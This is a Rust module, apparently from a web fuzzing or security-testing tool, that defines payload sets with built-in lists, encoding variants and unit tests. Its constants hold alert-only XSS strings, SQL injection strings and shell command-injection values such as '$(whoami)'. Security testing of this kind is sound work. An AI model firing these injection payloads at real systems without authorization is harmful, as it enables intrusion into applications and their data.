//! Payload lists and the generators that fill them.

use std::ops::Index;
use std::path::Path;

use percent_encoding::{utf8_percent_encode, AsciiSet, NON_ALPHANUMERIC};

use crate::errors::Result;

/// Everything except `A-Z a-z 0-9 _ . - ~`.
const ENCODE_ALL: &AsciiSet = &NON_ALPHANUMERIC
  .remove(b'_')
  .remove(b'.')
  .remove(b'-')
  .remove(b'~');
/// Like [`ENCODE_ALL`] but keeps path separators.
const ENCODE_KEEP_SLASH: &AsciiSet = &ENCODE_ALL.remove(b'/');

const COMMON: &[&str] = &[
  "admin",
  "test",
  "password",
  "123456",
  "root",
  "user",
  "guest",
  "api",
  "api_key",
  "token",
  "id",
  "user_id",
  "session",
  "session_id",
];

const XSS: &[&str] = &[
  "<script>alert('XSS')</script>",
  "<img src=x onerror=alert('XSS')>",
  "<svg onload=alert('XSS')>",
  "javascript:alert('XSS')",
];

const SQL_INJECTION: &[&str] = &[
  "' OR '1'='1",
  "' OR '1'='1' --",
  "' UNION SELECT NULL--",
  "1' AND '1'='1",
  "1' AND '1'='2",
];

const COMMAND_INJECTION: &[&str] = &["; ls", "| whoami", "& dir", "`id`", "$(whoami)"];

/// An ordered list of payload strings bound to one attack position.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct PayloadSet {
  values: Vec<String>,
}

impl PayloadSet {
  /// Wrap `values` as is, keeping order and duplicates.
  pub fn new<I, S>(values: I) -> Self
  where
    I: IntoIterator<Item = S>,
    S: Into<String>,
  {
    PayloadSet {
      values: values.into_iter().map(Into::into).collect(),
    }
  }

  /// Read a wordlist, one payload per line. Lines are trimmed and blank
  /// ones skipped; invalid UTF-8 is replaced rather than rejected.
  pub async fn from_wordlist(path: impl AsRef<Path>) -> Result<Self> {
    let raw = tokio::fs::read(path.as_ref()).await?;
    Ok(Self::from_lines(&String::from_utf8_lossy(&raw)))
  }

  /// Same rules as [`PayloadSet::from_wordlist`] for text already in memory.
  pub fn from_lines(text: &str) -> Self {
    Self::new(
      text
        .lines()
        .map(str::trim)
        .filter(|line| !line.is_empty()),
    )
  }

  /// Decimal numbers from `start` to `end`, both inclusive. Empty when
  /// `start > end`.
  pub fn numbers(start: i64, end: i64) -> Self {
    Self::new((start..=end).map(|n| n.to_string()))
  }

  /// Common parameter and credential words.
  pub fn common() -> Self {
    Self::new(COMMON.iter().copied())
  }

  /// Cross-site scripting payloads.
  pub fn xss() -> Self {
    Self::new(XSS.iter().copied())
  }

  /// SQL injection payloads.
  pub fn sql_injection() -> Self {
    Self::new(SQL_INJECTION.iter().copied())
  }

  /// Shell command injection payloads.
  pub fn command_injection() -> Self {
    Self::new(COMMAND_INJECTION.iter().copied())
  }

  /// `base` wrapped by every variation: suffixed, prefixed, and both.
  pub fn affixed(base: &str, variations: &[&str]) -> Self {
    Self::new(variations.iter().flat_map(|v| {
      [
        format!("{}{}", base, v),
        format!("{}{}", v, base),
        format!("{}{}{}", v, base, v),
      ]
    }))
  }

  /// `payload` plus its URL and HTML encoded forms.
  ///
  /// In order: raw, percent-encoded keeping `/`, form-encoded with `+` for
  /// spaces, fully percent-encoded, angle brackets HTML-escaped, quotes
  /// HTML-escaped.
  pub fn encoded(payload: &str) -> Self {
    let form = payload
      .split(' ')
      .map(|part| utf8_percent_encode(part, ENCODE_ALL).to_string())
      .collect::<Vec<_>>()
      .join("+");
    Self::new([
      payload.to_string(),
      utf8_percent_encode(payload, ENCODE_KEEP_SLASH).to_string(),
      form,
      utf8_percent_encode(payload, ENCODE_ALL).to_string(),
      payload.replace('<', "&lt;").replace('>', "&gt;"),
      payload.replace('"', "&quot;").replace('\'', "&#39;"),
    ])
  }

  /// Every value of `self` followed by its encoded forms.
  pub fn with_encodings(&self) -> Self {
    Self::new(
      self
        .values
        .iter()
        .flat_map(|value| Self::encoded(value).values),
    )
  }

  /// Append another set.
  pub fn extend(&mut self, other: PayloadSet) {
    self.values.extend(other.values);
  }

  /// Number of payloads.
  pub fn len(&self) -> usize {
    self.values.len()
  }

  /// Whether the set has no payloads.
  pub fn is_empty(&self) -> bool {
    self.values.is_empty()
  }

  /// The payload at `index`.
  pub fn get(&self, index: usize) -> Option<&str> {
    self.values.get(index).map(String::as_str)
  }

  /// Iterate in order.
  pub fn iter(&self) -> impl Iterator<Item = &str> {
    self.values.iter().map(String::as_str)
  }
}

impl Index<usize> for PayloadSet {
  type Output = str;

  fn index(&self, index: usize) -> &str {
    &self.values[index]
  }
}

impl<S: Into<String>> FromIterator<S> for PayloadSet {
  fn from_iter<I: IntoIterator<Item = S>>(iter: I) -> Self {
    Self::new(iter)
  }
}

impl From<Vec<String>> for PayloadSet {
  fn from(values: Vec<String>) -> Self {
    PayloadSet { values }
  }
}

#[cfg(test)]
mod tests {
  use super::*;
  use std::io::Write;

  #[tokio::test]
  async fn wordlist_is_trimmed_and_blank_lines_skipped() {
    let mut file = tempfile::NamedTempFile::new().unwrap();
    write!(file, "admin\n\n  root  \r\n\t\nguest").unwrap();
    let set = PayloadSet::from_wordlist(file.path()).await.unwrap();
    assert_eq!(set.iter().collect::<Vec<_>>(), ["admin", "root", "guest"]);
  }

  #[tokio::test]
  async fn missing_wordlist_is_an_io_error() {
    let dir = tempfile::tempdir().unwrap();
    let err = PayloadSet::from_wordlist(dir.path().join("nope.txt"))
      .await
      .unwrap_err();
    assert!(matches!(err, crate::Error::Io(_)));
  }

  #[test]
  fn number_ranges_are_inclusive() {
    let set = PayloadSet::numbers(-1, 2);
    assert_eq!(set.iter().collect::<Vec<_>>(), ["-1", "0", "1", "2"]);
    assert!(PayloadSet::numbers(5, 4).is_empty());
  }

  #[test]
  fn builtin_lists() {
    assert_eq!(PayloadSet::common().len(), 14);
    assert_eq!(PayloadSet::xss().len(), 4);
    assert_eq!(&PayloadSet::sql_injection()[0], "' OR '1'='1");
    assert_eq!(PayloadSet::command_injection().get(4), Some("$(whoami)"));
  }

  #[test]
  fn encoded_forms() {
    let set = PayloadSet::encoded("<a href='/x y'>");
    let forms: Vec<_> = set.iter().collect();
    assert_eq!(
      forms,
      [
        "<a href='/x y'>",
        "%3Ca%20href%3D%27/x%20y%27%3E",
        "%3Ca+href%3D%27%2Fx+y%27%3E",
        "%3Ca%20href%3D%27%2Fx%20y%27%3E",
        "&lt;a href='/x y'&gt;",
        "<a href=&#39;/x y&#39;>",
      ]
    );
  }

  #[test]
  fn affixes() {
    let set = PayloadSet::affixed("id", &["'", "\""]);
    assert_eq!(
      set.iter().collect::<Vec<_>>(),
      ["id'", "'id", "'id'", "id\"", "\"id", "\"id\""]
    );
  }
}
